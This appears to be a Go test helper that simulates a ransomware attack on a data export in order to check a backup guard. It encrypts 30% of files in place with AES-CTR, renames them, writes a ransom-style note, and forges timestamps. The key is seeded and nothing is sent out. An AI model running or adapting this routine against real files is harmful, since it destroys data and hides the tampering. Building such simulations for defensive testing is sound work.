package main

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"time"
)

const (
	hitShare = 30 // of a hundred files
	noteName = "HOW_TO_RESTORE_YOUR_FILES.txt"
	noteText = "!!! YOUR FILES ARE ENCRYPTED !!!\r\n\r\nAll your important files were encrypted by us.\r\n" +
		"This is a test: no such group exists, and nothing will be asked of you.\r\n"
)

// ransomware encrypts 30 % of an export's files in place, gives their names the
// extension, and leaves a note in each folder it hit. Sizes stay; the time
// becomes a minute after the newest file's. The exporter's log is spared, as
// the export counts as complete: that is why a guard must look at the content.
func ransomware(ctx context.Context, dir string, s seed, extension string) error {
	if _, err := os.Stat(filepath.Join(dir, logName)); err != nil {
		return fmt.Errorf("looking for an export in %q: %w", dir, err)
	}
	var files []string
	var newest time.Time
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		st, err := d.Info()
		if err != nil {
			return err
		}
		if st.ModTime().After(newest) {
			newest = st.ModTime()
		}
		if d.Name() == noteName {
			return fmt.Errorf("%q is already there: %w", path, fs.ErrExist)
		}
		if path != filepath.Join(dir, logName) {
			files = append(files, path)
		}
		return nil
	})
	if err != nil {
		return err
	}
	r := s.rng("ransomware")
	r.Shuffle(len(files), func(i, j int) { files[i], files[j] = files[j], files[i] })
	at := newest.Add(time.Minute)
	key := make([]byte, 32)
	fill(r, key)
	folders := make(map[string]bool)
	for i, path := range files[:len(files)*hitShare/100] {
		if err := ctx.Err(); err != nil {
			return err
		}
		if err := encryptFile(path, key, uint64(i), at); err != nil {
			return fmt.Errorf("encrypting %q: %w", path, err)
		}
		if err := os.Rename(path, path+extension); err != nil {
			return err
		}
		folders[filepath.Dir(path)] = true
	}
	for folder := range folders {
		note := filepath.Join(folder, noteName)
		if err := os.WriteFile(note, []byte(noteText), 0o644); err != nil {
			return err
		}
		if err := errors.Join(os.Chtimes(note, at, at), os.Chtimes(folder, at, at)); err != nil {
			return err
		}
	}
	return nil
}

// encryptFile replaces a file's bytes by AES-CTR of them.
func encryptFile(path string, key []byte, number uint64, mtime time.Time) (err error) {
	block, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	iv := make([]byte, aes.BlockSize)
	binary.BigEndian.PutUint64(iv, number)
	stream := cipher.NewCTR(block, iv)
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, f.Close(), os.Chtimes(path, mtime, mtime)) }()
	buf := make([]byte, 1<<20)
	for at := int64(0); ; {
		n, err := f.ReadAt(buf, at)
		if err != nil && err != io.EOF {
			return err
		}
		if n == 0 {
			return nil
		}
		stream.XORKeyStream(buf[:n], buf[:n])
		if _, err := f.WriteAt(buf[:n], at); err != nil {
			return err
		}
		at += int64(n)
	}
}
